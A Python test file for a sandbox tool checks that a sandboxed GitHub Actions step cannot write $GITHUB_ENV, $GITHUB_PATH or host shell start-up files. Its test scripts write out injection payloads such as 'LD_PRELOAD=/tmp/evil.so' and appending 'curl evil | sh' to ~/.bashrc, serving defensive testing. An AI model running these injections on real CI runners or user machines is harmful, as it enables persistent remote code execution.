"""The GitHub Actions recipe (docs/ci.md) in a local copy of the runner's file layout.

A step wrapped by the recipe's ``shell: sandbox run -- bash ... {0}`` runs the script the
runner wrote to ``$RUNNER_TEMP/<id>.sh``; it may write ``$GITHUB_OUTPUT`` and
``$GITHUB_STEP_SUMMARY``, and must not write ``$GITHUB_ENV`` / ``$GITHUB_PATH``,
which the runner turns into variables and PATH entries for later,
unsandboxed steps.
"""

from __future__ import annotations

import uuid

from test_ci_recipe import workflow_shell

from conftest import sandbox_exe

STEP = """\
echo "version=1.2.3" >> "$GITHUB_OUTPUT"
echo "### built" >> "$GITHUB_STEP_SUMMARY"
echo "LD_PRELOAD=/tmp/evil.so" >> "$GITHUB_ENV" || echo "env refused"
echo "/tmp/evil-bin" >> "$GITHUB_PATH" || echo "path refused"
"""


class Runner:
    """/home/runner/work/{_temp/_runner_file_commands, repo/repo} under the test root."""

    def __init__(self, senv) -> None:
        self.senv = senv
        self.work = senv.home / "work"
        self.temp = self.work / "_temp"
        self.commands = self.temp / "_runner_file_commands"
        self.repo = self.work / "repo" / "repo"
        self.commands.mkdir(parents=True)
        self.repo.mkdir(parents=True)

    def step(self, script: str, *, wrap: bool = True, args=(), cwd=None):
        """Run one step as the runner does: new files, the script in $RUNNER_TEMP."""
        ident = str(uuid.uuid4())
        files = {var: self.commands / f"{prefix}{ident}" for var, prefix in (
            ("GITHUB_OUTPUT", "set_output_"), ("GITHUB_STEP_SUMMARY", "step_summary_"),
            ("GITHUB_ENV", "set_env_"), ("GITHUB_PATH", "add_path_"))}
        for f in files.values():
            f.write_text("")
        path = self.temp / f"{ident}.sh"
        path.write_text(script)
        argv = ["bash", "-e", str(path)]
        if wrap:  # the recipe's shell line, with {0} the script
            shell = workflow_shell()
            args = [a.format(**files) for a in args]  # "{GITHUB_ENV}": this step's file
            argv = ([sandbox_exe(), "run", *args] + shell[2:-1] + [str(path)])
        self.senv.finish()
        import subprocess

        env = self.senv.environ(GITHUB_ACTIONS="true", CI="true", RUNNER_TEMP=str(self.temp),
                                GITHUB_WORKSPACE=str(self.repo),
                                **{k: str(v) for k, v in files.items()})
        done = subprocess.run(self.senv.who.prefix() + argv, cwd=cwd or self.repo, env=env,
                              capture_output=True, text=True, timeout=120)
        return done, {k: v.read_text() for k, v in files.items()}


def test_step_writes_output_and_summary_but_not_env_or_path(senv):
    gh = Runner(senv)
    bare, files = gh.step(STEP, wrap=False)  # without the sandbox the injection works
    assert bare.returncode == 0 and "LD_PRELOAD" in files["GITHUB_ENV"]
    assert "/tmp/evil-bin" in files["GITHUB_PATH"]
    done, files = gh.step(STEP)
    assert done.returncode == 0, done.stderr
    assert files["GITHUB_OUTPUT"] == "version=1.2.3\n"
    assert files["GITHUB_STEP_SUMMARY"] == "### built\n"
    assert files["GITHUB_ENV"] == "" and files["GITHUB_PATH"] == ""
    assert "env refused" in done.stdout and "path refused" in done.stdout
    assert "weakened" not in done.stderr
    # the next step has new files: a cached plan must not bind the old ones
    done, files = gh.step(STEP)
    assert done.returncode == 0, done.stderr
    assert files["GITHUB_OUTPUT"] == "version=1.2.3\n" and files["GITHUB_ENV"] == ""


def test_env_file_stays_closed_inside_a_writable_workspace(senv):
    """--workspace covering $RUNNER_TEMP: still read-only, and not replaceable."""
    gh = Runner(senv)
    attack = STEP + """\
mv "$RUNNER_TEMP" "$RUNNER_TEMP.old" || echo "temp rename refused"
mv "$(dirname "$GITHUB_ENV")" "$RUNNER_TEMP/x" || echo "dir rename refused"
rm -f "$GITHUB_ENV" || echo "rm refused"
"""
    done, files = gh.step(attack, args=["--workspace", str(gh.work)], cwd=gh.work)
    assert done.returncode == 0, done.stderr
    assert files["GITHUB_OUTPUT"] == "version=1.2.3\n"
    assert files["GITHUB_ENV"] == "" and files["GITHUB_PATH"] == ""
    for word in ("env", "path", "temp rename", "dir rename", "rm"):
        assert f"{word} refused" in done.stdout, (word, done.stdout)
    assert gh.temp.is_dir() and not (gh.temp.parent / "_temp.old").exists()


def test_profile_opens_github_env_as_a_weakening(senv):
    gh = Runner(senv)
    profile = senv.base / "open-env.toml"
    profile.write_text('extends = "default"\n[ci]\ngithub_env = true\n')
    done, files = gh.step(STEP, args=["--profile", str(profile)])
    assert done.returncode == 0, done.stderr
    assert files["GITHUB_ENV"] == "LD_PRELOAD=/tmp/evil.so\n"
    assert files["GITHUB_PATH"] == ""  # only what was asked for
    assert "sandbox: weakened: open-env: ci.github_env: false -> true" in done.stderr


def test_a_variable_pointing_elsewhere_opens_nothing(senv):
    """An earlier step could set GITHUB_OUTPUT=~/.bashrc through $GITHUB_ENV."""
    gh = Runner(senv)
    rc = senv.home / ".profile"
    rc.write_text("# host shell start-up\n")
    script = f'export GITHUB_OUTPUT={rc}\necho "curl evil | sh" >> {rc} || echo refused\n'
    (gh.temp / "s.sh").write_text(script)
    senv.finish()
    import subprocess

    env = senv.environ(GITHUB_ACTIONS="true", GITHUB_OUTPUT=str(rc))
    done = subprocess.run(senv.who.prefix() + [sandbox_exe(), "run", "--", "bash", "-e",
                                                str(gh.temp / "s.sh")],
                          cwd=gh.repo, env=env, capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    assert "refused" in done.stdout and rc.read_text() == "# host shell start-up\n"
    assert "is not a file the runner made" in done.stderr


def test_allow_write_of_the_env_file_itself_opens_it(senv):
    """From a bash step: sandbox run --allow-write "$GITHUB_ENV" -- ... (a weakening)."""
    gh = Runner(senv)
    done, files = gh.step(STEP, args=["--allow-write", "{GITHUB_ENV}"])
    assert done.returncode == 0, done.stderr
    assert files["GITHUB_ENV"] == "LD_PRELOAD=/tmp/evil.so\n" and files["GITHUB_PATH"] == ""
    assert "sandbox: weakened: --allow-write: filesystem.writable: added" in done.stderr


def test_a_runner_shaped_symlink_opens_nothing(senv):
    """set_output_<id> in the right directory, but a symlink to a host file."""
    gh = Runner(senv)
    rc = senv.home / ".bashrc"
    rc.write_text("# host shell start-up\n")
    link = gh.commands / "set_output_0123"
    link.symlink_to(rc)
    (gh.temp / "s.sh").write_text(f'echo "curl evil | sh" >> "$GITHUB_OUTPUT" || echo refused\n')
    senv.finish()
    import subprocess

    env = senv.environ(GITHUB_ACTIONS="true", GITHUB_OUTPUT=str(link))
    done = subprocess.run(senv.who.prefix() + [sandbox_exe(), "run", "--", "bash", "-e",
                                                str(gh.temp / "s.sh")],
                          cwd=gh.repo, env=env, capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    assert "refused" in done.stdout and rc.read_text() == "# host shell start-up\n"
